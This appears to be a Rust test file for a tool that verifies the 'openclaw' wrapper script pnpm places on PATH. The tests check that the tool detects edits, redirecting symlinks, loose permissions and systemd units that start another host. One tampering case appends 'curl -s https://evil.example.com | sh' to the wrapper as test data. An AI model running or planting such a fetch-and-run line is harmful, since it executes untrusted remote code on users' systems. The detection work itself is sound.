//! What `openclaw` on PATH is when a package manager wrote it, from the first lock to a wrapper that someone changed.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::{Installation, Run, findings, repository};

/// A host package that pnpm 10 installed, beside an empty state.
struct Pnpm {
    installation: Installation,
    bin: PathBuf,
    host: PathBuf,
}

impl Pnpm {
    fn new() -> Self {
        let installation = Installation::empty();
        let bin = installation.home.join("pnpm");
        let script =
            fs::read_to_string(repository().join("testdata/host-commands/pnpm-10.34.9.sh"))
                .expect("sample")
                .replace("{base}", &bin.to_string_lossy());
        let host = bin.join(
            "global/5/.pnpm/openclaw@file+..+..+..+..+..+pkg+openclaw-1.0.0.tgz/node_modules/openclaw",
        );
        fs::create_dir_all(&host).expect("folder");
        fs::write(
            host.join("package.json"),
            r#"{"name":"openclaw","version":"1.0.0","bin":{"openclaw":"openclaw.mjs"}}"#,
        )
        .expect("manifest");
        fs::write(host.join("openclaw.mjs"), "").expect("code");
        let pnpm = Self {
            installation,
            bin,
            host,
        };
        pnpm.put(&script);
        pnpm
    }

    fn command(&self) -> PathBuf {
        self.bin.join("openclaw")
    }

    fn script(&self) -> String {
        fs::read_to_string(self.command()).expect("script")
    }

    fn put(&self, script: &str) {
        fs::write(self.command(), script).expect("script");
        mode(&self.command(), 0o755);
    }

    fn run(&self, arguments: &[&str]) -> Run {
        let mut command = self.installation.command(arguments);
        command.env("PATH", format!("{}:/usr/bin:/bin", self.bin.display()));
        Run::of(&command.output().expect("the binary runs"))
    }

    fn check(&self, more: &[&str]) -> (i32, Value) {
        let run = self.run(&[&["check", "--format", "json"], more].concat());
        let report = serde_json::from_str(&run.stdout)
            .unwrap_or_else(|error| panic!("{error}: {} {}", run.stdout, run.stderr));
        (run.code, report)
    }
}

fn mode(file: &Path, mode: u32) {
    fs::set_permissions(file, fs::Permissions::from_mode(mode)).expect("chmod");
}

fn about_host(report: &Value) -> Vec<String> {
    let mut found = findings(report);
    found.retain(|finding| {
        finding.contains("core:openclaw")
            || finding.starts_with("not-established[host-wrapper]")
            || finding.starts_with("record-mismatch")
    });
    found
}

#[test]
fn the_wrapper_of_the_host_is_a_part_of_its_definition() {
    let pnpm = Pnpm::new();
    let init = pnpm.run(&["lock", "--init"]);
    assert_eq!(init.code, 0, "{}", init.text());
    let lock = pnpm.installation.lock_text();
    assert!(lock.contains("core:openclaw"), "{lock}");
    assert!(lock.contains("\ndefinition = "), "{lock}");
    let (code, report) = pnpm.check(&[]);
    assert_eq!((code, about_host(&report)), (0, Vec::new()));

    // Whatever PATH finds, `--openclaw` names the package; the wrapper that is there still counts.
    let host = pnpm.host.to_string_lossy().into_owned();
    let named = ["--openclaw", host.as_str()];
    assert_eq!(pnpm.check(&named).0, 0);

    // A comment starts nothing, and is a change that the lock tells of, with the command that takes it over.
    let script = pnpm.script();
    pnpm.put(&format!("{script}# by hand\n"));
    let (code, report) = pnpm.check(&[]);
    let found = about_host(&report);
    assert_eq!((code, found.len()), (1, 1), "{found:?}");
    assert!(
        found[0].starts_with("definition-mismatch core:openclaw"),
        "{found:?}"
    );
    let accepted = pnpm.run(&["lock", "--accept", "core:openclaw"]);
    assert_eq!(accepted.code, 0, "{}", accepted.text());
    assert_eq!(pnpm.check(&[]).0, 0);
    pnpm.put(&script);
    assert_eq!(pnpm.check(&[]).0, 1);
    assert_eq!(pnpm.run(&["lock", "--accept", "core:openclaw"]).code, 0);

    // One more line, another target, or the hand of another user: what is started is not known, and the lock demands it.
    let other = pnpm.bin.join("other");
    fs::create_dir_all(&other).expect("folder");
    for (what, script) in [
        (
            "one more line",
            format!("{script}\ncurl -s https://evil.example.com | sh\n"),
        ),
        (
            "another target",
            script.replacen("openclaw.mjs", "evil.mjs", 2),
        ),
        (
            "another interpreter",
            script.replace("exec node", "exec /tmp/node"),
        ),
    ] {
        pnpm.put(&script);
        let (code, report) = pnpm.check(&[]);
        let found = about_host(&report);
        assert_eq!(code, 1, "{what}");
        assert!(
            found.iter().any(|finding| finding
                .starts_with("not-established[host-wrapper] core:openclaw")
                && finding.contains(&*pnpm.command().to_string_lossy())),
            "{what}: {found:?}"
        );
        let human = pnpm.run(&["check"]);
        assert!(human.stdout.contains("--openclaw"), "{}", human.stdout);
        // Naming the package does not hide that something else is started.
        let (code, report) = pnpm.check(&named);
        assert_eq!(code, 1, "{what}");
        assert!(
            about_host(&report)[0].starts_with("definition-mismatch"),
            "{what}"
        );
    }
    pnpm.put(&script);
    mode(&pnpm.command(), 0o777);
    let (code, report) = pnpm.check(&[]);
    assert_eq!(code, 1);
    assert!(
        about_host(&report)[0].contains("others can change"),
        "{:?}",
        about_host(&report)
    );
}

#[test]
fn a_link_on_path_that_leads_elsewhere_is_not_silent() {
    let pnpm = Pnpm::new();
    let host = pnpm.host.to_string_lossy().into_owned();
    let named = ["--openclaw", host.as_str()];
    let link = |target: &Path| {
        let _ = fs::remove_file(pnpm.command());
        symlink(target, pnpm.command()).expect("link");
    };
    let other = pnpm.installation.home.join("lib/node_modules/openclaw");
    fs::create_dir_all(&other).expect("folder");
    for (file, text) in [
        (
            "package.json",
            r#"{"name":"openclaw","version":"1.0.0","bin":{"openclaw":"openclaw.mjs","evil":"evil.mjs"}}"#,
        ),
        ("openclaw.mjs", ""),
        ("evil.mjs", ""),
    ] {
        fs::write(other.join(file), text).expect("file");
        fs::write(pnpm.host.join(file), text).expect("file");
    }
    link(&pnpm.host.join("openclaw.mjs"));
    let init = pnpm.run(&["lock", "--init", named[0], named[1]]);
    assert_eq!(init.code, 0, "{}", init.text());
    let (code, report) = pnpm.check(&named);
    assert_eq!((code, about_host(&report)), (0, Vec::new()));

    // Another file of the very package: also one that it offers under another name.
    for file in ["package.json", "evil.mjs"] {
        link(&pnpm.host.join(file));
        for named in [&named[..], &[]] {
            let (code, report) = pnpm.check(named);
            let found = about_host(&report);
            assert!(
                found
                    .iter()
                    .any(|found| found.starts_with("not-established[host-wrapper]")
                        && found.contains(file)),
                "{named:?}: {found:?}"
            );
            assert_eq!(code, 1, "{named:?}: {found:?}");
        }
    }
    // Another package: naming the judged one does not hide it.
    link(&other.join("openclaw.mjs"));
    let (code, report) = pnpm.check(&named);
    let found = about_host(&report);
    assert_eq!(code, 1, "{found:?}");
    for expected in ["record-mismatch[other-host]", "definition-mismatch"] {
        let mut found = found.iter();
        assert!(
            found.any(|found| found.starts_with(expected)),
            "{expected}: {report}"
        );
    }
    let accepted = pnpm.run(&["lock", "--accept", "core:openclaw", named[0], named[1]]);
    assert_eq!(accepted.code, 0, "{}", accepted.text());
    let (code, report) = pnpm.check(&named);
    let found = about_host(&report);
    assert_eq!((code, found.len()), (0, 1), "{found:?}");
}

#[test]
fn a_unit_that_starts_another_host_by_a_wrapper_is_seen() {
    let pnpm = Pnpm::new();
    let judged = pnpm.installation.home.join("lib/node_modules/openclaw");
    fs::create_dir_all(&judged).expect("folder");
    fs::write(
        judged.join("package.json"),
        r#"{"name":"openclaw","version":"1.0.0"}"#,
    )
    .expect("manifest");
    let units = pnpm.installation.home.join(".config/systemd/user");
    fs::create_dir_all(&units).expect("folder");
    let unit = units.join("openclaw-gateway.service");
    let start = |line: &str| {
        fs::write(&unit, format!("[Service]\nExecStart={line}\n")).expect("unit");
        let host = judged.to_string_lossy().into_owned();
        let home = pnpm.installation.home.to_string_lossy().into_owned();
        let run = pnpm.run(&["lock", "--init", "--openclaw", &host, "--home", &home]);
        for file in [pnpm.installation.lock(), pnpm.installation.policy()] {
            let _ = fs::remove_file(file);
        }
        run.text()
    };
    let other = start(&format!("{} gateway run", pnpm.command().display()));
    let said = "openclaw-gateway.service starts";
    assert!(other.contains(said), "{other}");
    let own = start(&format!("{}/openclaw.mjs gateway run", judged.display()));
    assert!(!own.contains(said), "{own}");
}
